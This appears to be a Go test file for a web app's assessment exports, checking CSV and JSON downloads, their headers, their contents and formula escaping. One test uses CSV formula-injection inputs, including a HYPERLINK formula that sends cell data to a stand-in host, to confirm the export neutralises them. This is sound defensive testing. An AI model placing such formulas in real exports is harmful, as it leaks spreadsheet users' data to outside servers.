package web_test

import (
	"encoding/csv"
	"net/url"
	"slices"
	"strings"
	"testing"
)

// noted returns a finished assessment of which the first question has this note.
func (b *browser) noted(note string) string {
	b.t.Helper()
	id := b.begun("first-team", "full")
	b.answerAll(id, "first-team", varied)
	_, items := b.site.firstItems("first-team")
	b.save(id, "item", items[0].ID, "level", "4", "note", note, "seen", "")
	b.post(b.site.paths.Finish(id), url.Values{"meant": {"yes"}})
	return id
}

// rows reads a CSV answer by its columns' names.
func (p *page) rows() []map[string]string {
	p.t.Helper()
	records, err := csv.NewReader(strings.NewReader(p.body)).ReadAll()
	if err != nil {
		p.t.Fatal(err)
	}
	var rows []map[string]string
	for _, record := range records[1:] {
		row := map[string]string{}
		for i, name := range records[0] {
			row[name] = record[i]
		}
		rows = append(rows, row)
	}
	return rows
}

func TestExportsAreDownloads(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	person := s.browser()
	id := person.noted("A note.")
	result := person.get(s.paths.Result(id))
	for words, want := range map[string][2]string{
		"Export as CSV":  {"text/csv; charset=utf-8", `attachment; filename="whetstone-2026-11-16.csv"`},
		"Export as JSON": {"application/json", `attachment; filename="whetstone-2026-11-16.json"`},
	} {
		got := person.visit(result.link(words)).wantStatus(200)
		if kind, disposition := got.header.Get("Content-Type"), got.header.Get("Content-Disposition"); kind != want[0] || disposition != want[1] {
			t.Errorf("%s is sent as %q, %q", words, kind, disposition)
		}
	}
}

func TestCSVHoldsEveryAnswer(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	person := s.browser()
	note := "A \"quoted\" note,\nin two lines; ü."
	id := person.noted(note)
	rows := person.get(s.paths.ResultCSV(id)).rows()
	if len(rows) != s.asked("first-team") {
		t.Fatalf("%d rows, want %d", len(rows), s.asked("first-team"))
	}
	first := rows[0]
	if first["assessment"] != id || first["level"] != "4" || first["state"] != "answered" || first["note"] != note ||
		first["questionnaire"] != "first-team" || first["period_start"] != "2026-08-16" || first["period_end"] != "2026-11-16" {
		t.Errorf("the first row is %v", first)
	}
	if absent := rows[6]; absent["state"] != "absent" || absent["level"] != "" {
		t.Errorf("what did not come up is %v", absent)
	}
}

// A spreadsheet runs what begins with one of these characters; it must find text.
func TestCSVHoldsNoFormulas(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	for _, note := range []string{`=HYPERLINK("https://x.test?"&A1)`, "+1+1", "-2+3", "@SUM(A1)", "=1\n=2"} {
		person := s.browser()
		id := person.noted(note)
		if got := person.get(s.paths.ResultCSV(id)).rows()[0]["note"]; got != "'"+note {
			t.Errorf("the note %q stands as %q", note, got)
		}
	}
}

// exported is what the JSON export of one assessment holds.
type exported struct {
	Format      string
	Assessments []struct {
		ID, Scope, Form         string
		Noise, Constants, Scale map[string]any
		Competencies            []struct {
			Competency, Standing string
			Target               float64
			Importance           int
			Score                *struct{ Value float64 }
			Answers              []struct {
				Item        map[string]any
				ItemHash    string `json:"item_hash"`
				Level       *int
				State, Note string
			}
		}
		Groups []struct{ Kind, ID string }
	}
}

// The JSON export has all that is needed to recompute the result.
func TestJSONHoldsEverything(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	person := s.browser()
	note := "=<A> & “note”"
	id := person.noted(note)
	var whole exported
	person.get(s.paths.ResultJSON(id)).decode(&whole)
	if whole.Format == "" || len(whole.Assessments) != 1 {
		t.Fatalf("the export is of format %q and holds %d assessments", whole.Format, len(whole.Assessments))
	}
	export := whole.Assessments[0]
	if export.ID != id || export.Scope != "first-team" || export.Form != "full" {
		t.Errorf("the export is of %q, %q, %q", export.ID, export.Scope, export.Form)
	}
	if len(export.Noise) == 0 || len(export.Constants) == 0 || len(export.Scale) == 0 {
		t.Error("the noise, the constants or the scale are missing")
	}
	answers := 0
	for _, competency := range export.Competencies {
		if competency.Competency == "" || competency.Target == 0 || competency.Importance == 0 || competency.Standing == "" || competency.Score == nil {
			t.Errorf("of a competency is exported %+v", competency)
		}
		for _, answer := range competency.Answers {
			if len(answer.Item) == 0 || len(answer.ItemHash) != 64 || (answer.Level == nil) != (answer.State != "answered") {
				t.Errorf("of an answer is exported %+v", answer)
			}
			answers++
		}
	}
	if answers != s.asked("first-team") {
		t.Errorf("%d answers are exported, want %d", answers, s.asked("first-team"))
	}
	if got := export.Competencies[0].Answers[0].Note; got != note {
		t.Errorf("the note %q is exported as %q", note, got)
	}
	var kinds []string
	for _, group := range export.Groups {
		kinds = append(kinds, group.Kind)
	}
	if kinds = slices.Compact(kinds); !slices.Equal(kinds, []string{"whole", "area", "outcome", "pillar"}) {
		t.Errorf("the groups exported are %v", kinds)
	}
}
